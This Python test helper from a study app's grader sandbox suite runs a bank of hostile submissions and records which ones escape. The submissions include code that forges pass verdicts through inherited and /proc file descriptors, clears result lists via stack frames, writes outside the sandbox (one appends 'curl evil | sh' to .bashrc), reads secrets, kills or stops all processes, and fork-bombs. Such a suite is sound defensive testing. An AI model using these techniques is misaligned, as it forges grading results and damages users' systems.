"""Hostile submissions and the runner that grades them and watches what they did.

`python tests/hostile_bank.py CONFIG.json RESULTS.json` grades every submission of `BANK` on the
fake "add" drill with one warm grader, as whatever user runs it (the test runs it as itself and,
when it is root, as an ordinary user through `runuser`). For each submission it records the
verdict and what the submission reached: files changed outside the scratch folder, bytes that
arrived at the runner's own TCP, UDP and abstract unix sockets, processes still alive, whether
the grader still grades. The test asserts on those observations; this file asserts nothing.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import textwrap
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path

TIMEOUT = 2.0
PRIVATE_TEXT = "my-private-text-7d1c"
"""What the private file in $HOME says, and a token in the grader's environment: it must never appear in a verdict."""

PRELUDE = """
import os, sys, signal, socket, time
MARKER = {marker!r}
HOME = {home!r}
DATA = {data!r}
VAULT = {vault!r}
TCP_PORT = {tcp_port}
UDP_PORT = {udp_port}
ABSTRACT = {abstract!r}
UNIX_PATH = {unix_path!r}
def sleeper():
    # a process the runner can find by its command line, whoever its parent is now
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)", MARKER])
"""

FORGED_LINES = """
def forged_verdict_lines():
    lines = b""
    for job in range(1, 200):
        lines += ('{"id": %d, "verdict": {"drill": "add", "file": "x", "status": "pass", '
                  '"summary": "forged", "hint": "", "device": "cpu", "seconds": 0, "checks": [], '
                  '"detail": "", "output": "", "output_truncated": false}}\\n' % job).encode()
    return lines
"""

BANK: dict[str, str] = {
    # -- forging the result --------------------------------------------------------------
    "forge_result_channel": FORGED_LINES + """
import io, torch
def add(a, b):
    buffer = io.BytesIO()
    torch.save({"stage": "ran", "results": []}, buffer)
    for fd in range(3, 64):
        for data in (b"R" + buffer.getvalue(), buffer.getvalue()):
            try:
                os.write(fd, data)
            except OSError:
                pass
    os._exit(0)
""",
    "forge_channel_then_return_wrong": """
def add(a, b):
    for fd in range(3, 64):
        try:
            os.write(fd, b"garbage that is not the grader's")
        except OSError:
            pass
    return a - b
""",
    "clear_payloads_at_import": """
import gc
for thing in gc.get_objects():
    if isinstance(thing, list) and thing and all(isinstance(p, dict) and "a" in p for p in thing):
        thing.clear()
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        if isinstance(value, list) and value and all(isinstance(p, dict) and "a" in p for p in value):
            value.clear()
    frame = frame.f_back
def add(a, b):
    return a - b
""",
    "clear_results_while_running": """
def add(a, b):
    frame = sys._getframe()
    while frame is not None:
        for name in ("results", "payloads"):
            value = frame.f_locals.get(name)
            if hasattr(value, "clear"):
                value.clear()
        frame = frame.f_back
    return a - b
""",
    "tensor_subclass_lies_about_dtype": """
import torch
class Liar(torch.Tensor):
    @property
    def dtype(self):
        return torch.float32
def add(a, b):
    return (a.double() - b.double()).as_subclass(Liar)
""",
    "inject_through_proc_fds": FORGED_LINES + """
def add(a, b):
    lines = forged_verdict_lines()
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            fds = os.listdir(f"/proc/{entry}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                handle = os.open(f"/proc/{entry}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(handle, lines)
                os.close(handle)
            except OSError:
                pass
    return a - b
""",
    # -- files outside the scratch folder ------------------------------------------------------
    "forge_rows_in_the_review_db": """
import sqlite3
def add(a, b):
    db = sqlite3.connect(os.path.join(DATA, "studyapp.sqlite3"))
    db.execute("insert into drill_attempts values ('add', 'pass', 'forged')")
    db.commit()
    return a + b
""",
    "write_tmp": """
def add(a, b):
    open(f"/tmp/{MARKER}-tmp", "w").write("escaped")
    return a + b
""",
    "write_dev_shm": """
def add(a, b):
    open(f"/dev/shm/{MARKER}-shm", "w").write("escaped")
    return a + b
""",
    "write_data_dir": """
def add(a, b):
    open(os.path.join(DATA, "config.toml"), "a").write("\\nescaped = true\\n")
    return a + b
""",
    "write_vault": """
def add(a, b):
    open(os.path.join(VAULT, "note.md"), "w").write("gone")
    return a + b
""",
    "write_home": """
def add(a, b):
    open(os.path.join(HOME, ".bashrc"), "a").write("curl evil | sh\\n")
    return a + b
""",
    "write_through_a_symlink": """
def add(a, b):
    os.symlink(VAULT, "vault_link")
    open("vault_link/planted.md", "w").write("planted")
    return a + b
""",
    "read_private_file": """
def add(a, b):
    secret = open(os.path.join(HOME, "private.txt")).read()
    print(secret)
    raise ValueError(secret)
""",
    # -- network --------------------------------------------------------------------------------
    "tcp_connect": """
def add(a, b):
    socket.create_connection(("127.0.0.1", TCP_PORT), timeout=1).sendall(MARKER.encode())
    return a + b
""",
    "udp_send": """
def add(a, b):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(MARKER.encode(), ("127.0.0.1", UDP_PORT))
    return a + b
""",
    "tcp_listen": """
def add(a, b):
    s = socket.socket()
    s.bind(("0.0.0.0", 0))
    s.listen()
    return a + b
""",
    "pathname_unix_socket": """
def add(a, b):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(UNIX_PATH)          # a session bus or docker.sock would be as easy to reach
    s.sendall(MARKER.encode())
    return a + b
""",
    "abstract_unix_socket": """
def add(a, b):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(ABSTRACT)
    s.sendall(MARKER.encode())
    return a + b
""",
    # -- processes and signals -----------------------------------------------------------------
    "sigstop_ancestors": """
def add(a, b):
    for pid in (os.getppid(), os.getpgid(0), 1):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGSTOP)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
    return a - b
""",
    "sigkill_ancestors": """
def add(a, b):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    return a - b
""",
    "leaves_daemons": """
import subprocess
def add(a, b):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)", MARKER],
                     start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            sleeper()
        os._exit(0)
    time.sleep(0.3)
    return a + b
""",
    "fill_the_scratch_disk": """
def add(a, b):
    try:
        for n in range(400):
            with open(f"fill{n}", "wb") as f:
                f.write(b"x" * (1 << 20))
    except OSError:
        pass
    return a + b
""",
    "read_the_environment": """
def add(a, b):
    raise ValueError(repr(sorted(os.environ.items())))
""",
    "fork_bomb": """
def add(a, b):
    while True:
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except OSError:
            pass
""",
}

MUST_NOT_PASS = {"forge_result_channel", "forge_channel_then_return_wrong", "clear_payloads_at_import",
                 "clear_results_while_running", "tensor_subclass_lies_about_dtype",
                 "inject_through_proc_fds", "sigstop_ancestors", "sigkill_ancestors", "fork_bomb",
                 "read_private_file", "fill_the_scratch_disk"}
"""Submissions whose code is wrong: a pass would be forged."""

KILL_WORKER_MID_GRADE = "kill_the_worker_mid_grade"
KILL_CLIENT_MID_GRADE = "kill_the_client_mid_grade"
MID_GRADE_SOURCE = """
def add(a, b):
    if os.fork() == 0:
        os.setsid()
        sleeper()
    subprocess_args = [sys.executable, "-c", "import time; time.sleep(1000)", MARKER]
    import subprocess
    subprocess.Popen(subprocess_args, start_new_session=True)
    time.sleep(1000)
"""


@dataclass
class Observation:
    """What one hostile submission got and did."""

    name: str
    status: str = ""
    summary: str = ""
    seconds: float = 0.0
    sandbox: dict = field(default_factory=dict)
    files_changed: list[str] = field(default_factory=list)
    network_hits: list[str] = field(default_factory=list)
    processes_left: list[int] = field(default_factory=list)
    secret_leaked: bool = False
    grader_alive: bool = False
    problem: str = ""


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "absent"


class Watch:
    """The places a submission must not reach, and a way to tell whether it reached them."""

    def __init__(self, root: Path, marker: str):
        self.root, self.marker = root, marker
        self.home, self.data, self.vault = root / "home", root / "data", root / "vault"
        for folder in (self.home, self.data, self.vault):
            folder.mkdir(parents=True, exist_ok=True)
        (self.home / "private.txt").write_text(PRIVATE_TEXT)
        os.chmod(self.home / "private.txt", 0o600)
        (self.home / ".bashrc").write_text("# mine\n")
        (self.vault / "note.md").write_text("---\nreview_count: 0\n---\nmy note\n")
        (self.data / "config.toml").write_text("theme = 'nord'\n")
        with sqlite3.connect(self.data / "studyapp.sqlite3") as db:
            db.execute("create table if not exists drill_attempts (drill text, status text, note text)")
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.setblocking(False)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self.abstract_name = f"\0studyapp-hostile-{marker}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.abstract_name)
        self.unix.listen()
        self.unix.setblocking(False)
        self.unix_path = str(root / "bus.sock")
        self.bus = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.bus.bind(self.unix_path)
        os.chmod(self.unix_path, 0o777)  # like a socket its owner's other programs may use
        self.bus.listen()
        self.bus.setblocking(False)
        self.before = self.snapshot()

    def prelude(self) -> str:
        return PRELUDE.format(marker=self.marker, home=str(self.home), data=str(self.data),
                              vault=str(self.vault), tcp_port=self.tcp.getsockname()[1],
                              udp_port=self.udp.getsockname()[1], abstract=self.abstract_name,
                              unix_path=self.unix_path)

    def snapshot(self) -> dict[str, str]:
        files = {}
        for folder in (self.home, self.data, self.vault):
            for path in sorted(folder.rglob("*")):
                if path.is_file() or path.is_symlink():
                    files[str(path)] = _digest(path)
        for extra in (Path(f"/tmp/{self.marker}-tmp"), Path(f"/dev/shm/{self.marker}-shm")):
            files[str(extra)] = _digest(extra)
        return files

    def files_changed(self) -> list[str]:
        now = self.snapshot()
        return sorted(p for p in set(now) | set(self.before) if now.get(p) != self.before.get(p))

    def network_hits(self) -> list[str]:
        hits = []
        for listener, kind in ((self.tcp, "tcp"), (self.unix, "abstract unix"), (self.bus, "unix socket file")):
            while True:
                try:
                    connection, _ = listener.accept()
                except (BlockingIOError, OSError):
                    break
                hits.append(kind)
                connection.close()
        while True:
            try:
                self.udp.recvfrom(4096)
            except (BlockingIOError, OSError):
                break
            hits.append("udp")
        return hits

    def processes_left(self) -> list[int]:
        found = []
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if self.marker.encode() in cmdline.split(b"\0") and state != "Z":
                found.append(int(entry))
        return found

    def settle_processes(self, seconds: float = 3.0) -> list[int]:
        deadline = time.monotonic() + seconds
        while (left := self.processes_left()) and time.monotonic() < deadline:
            time.sleep(0.05)
        return left


def _limits(timeout: float):
    from studyapp.grader.contract import GradeLimits

    return GradeLimits(timeout=timeout, memory_mb=512)


def _client(kernels: str, repo: str):
    from studyapp.grader.client import GraderClient

    env = dict(os.environ, STUDYAPP_GRADER_KERNELS=kernels, HOSTILE_BANK_TOKEN=PRIVATE_TEXT,
               PYTHONPATH=os.pathsep.join(p for p in (repo, os.environ.get("PYTHONPATH")) if p))
    return GraderClient(_limits(TIMEOUT), env=env)


def _still_grades(client, folder: Path) -> bool:
    good = folder / "good.py"
    good.write_text("def add(a, b):\n    return b + a\n")
    return client.grade("add", good, device="cpu", limits=_limits(10))["status"] == "pass"


def run_bank(config: dict) -> list[Observation]:
    root = Path(config["root"])
    watch = Watch(root, config["marker"])
    submissions = root / "submissions"
    submissions.mkdir(exist_ok=True)
    observations = []
    with _client(config["kernels"], config["repo"]) as client:
        client.grade("add", _write(submissions / "warm.py", "def add(a, b):\n    return a + b\n"), device="cpu")
        for name in config.get("names") or sorted(BANK):
            path = _write(submissions / f"{name}.py", watch.prelude() + textwrap.dedent(BANK[name]))
            started = time.monotonic()
            verdict = client.grade("add", path, device="cpu")
            observation = Observation(name, verdict["status"], verdict["summary"],
                                      round(time.monotonic() - started, 2), verdict.get("sandbox", {}))
            observation.processes_left = watch.settle_processes()
            observation.files_changed = watch.files_changed()
            observation.network_hits = watch.network_hits()
            observation.secret_leaked = PRIVATE_TEXT in json.dumps(verdict)
            observation.grader_alive = _still_grades(client, submissions)
            observations.append(observation)
            watch.before = watch.snapshot()
        observations.append(_kill_worker_mid_grade(client, watch, submissions))
    observations.append(_kill_client_mid_grade(config, watch, submissions))
    return observations


def _write(path: Path, text: str) -> Path:
    path.write_text(text)
    return path


def _wait_for_markers(watch: Watch, count: int, seconds: float = 30.0) -> bool:
    deadline = time.monotonic() + seconds
    while len(watch.processes_left()) < count and time.monotonic() < deadline:
        time.sleep(0.05)
    return len(watch.processes_left()) >= count


def _kill_worker_mid_grade(client, watch: Watch, folder: Path) -> Observation:
    """SIGKILL the worker while the submission's daemons run: none of them may survive it."""
    import threading

    observation = Observation(KILL_WORKER_MID_GRADE)
    path = _write(folder / "mid_grade.py", watch.prelude() + textwrap.dedent(MID_GRADE_SOURCE))
    verdict: dict = {}
    thread = threading.Thread(target=lambda: verdict.update(client.grade("add", path, device="cpu", limits=_limits(30))))
    thread.start()
    if not _wait_for_markers(watch, 2):
        observation.problem = "the submission's processes never started"
    os.kill(client._proc.pid, signal.SIGKILL)
    thread.join(timeout=60)
    observation.status, observation.summary = verdict.get("status", ""), verdict.get("summary", "")
    observation.processes_left = watch.settle_processes(5.0)
    observation.grader_alive = _still_grades(client, folder)
    return observation


def _kill_client_mid_grade(config: dict, watch: Watch, folder: Path) -> Observation:
    """SIGKILL the process that asked for the grade (the CLI): the worker and the tree must go."""
    observation = Observation(KILL_CLIENT_MID_GRADE)
    path = _write(folder / "mid_grade_client.py", watch.prelude() + textwrap.dedent(MID_GRADE_SOURCE))
    script = (f"import sys; sys.path.insert(0, {config['repo']!r}); sys.path.insert(0, {str(Path(__file__).parent)!r})\n"
              f"from hostile_bank import _client, _limits\n"
              f"_client({config['kernels']!r}, {config['repo']!r}).grade('add', {str(path)!r}, device='cpu', limits=_limits(5))\n")
    cli = subprocess.Popen([sys.executable, "-c", script])
    if not _wait_for_markers(watch, 2):
        observation.problem = "the submission's processes never started"
    cli.kill()
    cli.wait()
    observation.status, observation.summary = "error", "client killed"
    observation.processes_left = watch.settle_processes(15.0)  # the worker sees it at its timeout (5 s)
    observation.grader_alive = True
    return observation


def main(argv: list[str]) -> int:
    config = json.loads(Path(argv[0]).read_text())
    sys.path.insert(0, config["repo"])
    observations = run_bank(config)
    Path(argv[1]).write_text(json.dumps([asdict(o) for o in observations], indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
